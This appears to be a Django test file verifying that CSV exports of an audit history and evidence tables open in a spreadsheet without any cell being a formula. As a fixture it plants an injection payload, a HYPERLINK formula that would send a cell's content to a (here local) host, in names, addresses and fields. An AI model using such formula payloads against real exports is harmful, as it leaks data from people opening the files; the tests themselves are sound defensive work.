"""Exports opened in a spreadsheet program: no cell of theirs is a formula, whoever wrote what stands in it."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import User
from django.db import transaction
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from connections.audit.append import Entry, append
from connections.audit.export_csv import COLUMNS, harmless
from connections.audit.origin import Origin
from connections.evidence.pages import as_csv
from connections.evidence.story import Evidence
from connections.models import Account, AuditCheckpoint, AuditHead, Connection
from tests.support.commands import manage
from tests.support.runs import WEB, put, start_run
from tests.support.skips import needs

pytestmark = pytest.mark.django_db(transaction=True)
in_a_spreadsheet = needs("ssconvert")
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"look")'
NOT_TEXTS = ("seq", "at", "action", "origin", "prev_hash", "hash")
"""The columns that nobody can put a text of their own into."""
TOLD = (
    ("stop.sent", {"item_id": 1, "attempt": 1, "call": "rest"}),
    ("stop.answered", {"item_id": 1, "attempt": 1, "outcome": "refused", "upstream_reason": FORMULA}),
    ("stop.verified", {"item_id": 1, "verdict": "came_back", "why": FORMULA, "came_back_as": FORMULA}),
)
"""What a worker tells of an item."""
CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}c"


def opened(content: bytes, folder: Path) -> tuple[int, list[str]]:
    """Open a CSV in Gnumeric; returns how many cells it has, and the formulas among them."""
    table, book = folder / "table.csv", folder / "book.xlsx"
    table.write_bytes(content)
    command = ["ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", table, book]
    subprocess.run(command, check=True, capture_output=True, env={**os.environ, "LC_ALL": "C.UTF-8"})
    with zipfile.ZipFile(book) as archive:
        cells = list(ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml")).iter(CELL))
    formulas = [found for cell in cells if (found := cell.findtext(CELL[:-1] + "f")) is not None]
    return len(cells), formulas


@pytest.fixture
def mallory(db: None) -> User:
    return User.objects.create_superuser(FORMULA)


@pytest.fixture
def hostile(mallory: User) -> None:
    """A line of the history with a formula in every column that can hold one, and in a field that has no column."""
    facts = {name: FORMULA for name in (*COLUMNS, FORMULA) if name not in NOT_TEXTS}
    origin = Origin("web", client_ip=FORMULA, user_agent=FORMULA, system_user=FORMULA)
    with transaction.atomic():
        append([Entry("test.note", origin, actor=mallory, facts=facts)])


@in_a_spreadsheet
def test_the_program_takes_such_a_text_for_a_formula(tmp_path: Path) -> None:
    written = io.StringIO()
    csv.writer(written).writerow(["a", FORMULA])
    assert opened(written.getvalue().encode(), tmp_path) == (2, ['HYPERLINK("http://127.0.0.1:9/?"&A1,"look")'])


@in_a_spreadsheet
def test_a_downloaded_history_starts_no_formula(client: Client, mallory: User, hostile: None, tmp_path: Path) -> None:
    client.force_login(mallory)
    content = client.post("/admin/connections/auditevent/export/csv/").getvalue()
    count, formulas = opened(content, tmp_path)
    assert count > len(COLUMNS) + len(COLUMNS) / 2
    assert formulas == []


@pytest.mark.slow
@in_a_spreadsheet
def test_a_history_exported_by_command_starts_no_formula(hostile: None, tmp_path: Path) -> None:
    count, formulas = opened(manage("export_audit", "--format", "csv").stdout, tmp_path)
    assert count > len(COLUMNS) + len(COLUMNS) / 2
    assert formulas == []


@pytest.mark.slow
@in_a_spreadsheet
def test_the_table_of_an_evidence_starts_no_formula(
    mallory: User, account: Account, make_connection: Callable[..., Connection], tmp_path: Path
) -> None:
    Account.objects.update(name=FORMULA)
    names = ("connection_id", "device_name", "service_name", "opened_by")
    one = make_connection(device_address="=1+1", **dict.fromkeys(names, FORMULA))
    run = start_run(mallory, one, reason=FORMULA, ticket=FORMULA)
    with transaction.atomic():
        append([Entry(action, WEB, connection=one, run=run, account=account, facts=facts) for action, facts in TOLD])
    put(one, "refused")
    # By itself: the panel hands out no evidence whose lines nobody wrote like that.
    table = "".join(as_csv(Evidence(run, AuditCheckpoint(seq=AuditHead.objects.get().seq), {})))
    count, formulas = opened(table.encode(), tmp_path)
    assert count > 2 * len(names)
    assert formulas == []


@given(st.text(st.sampled_from("=+@\uff1d\"'; \t\r\na,"), max_size=12))
def test_no_cell_begins_a_formula_whatever_divides_the_cells(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([1, harmless(text), "end"])
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.strip().startswith(("=", "+", "@", "\uff1d"))]
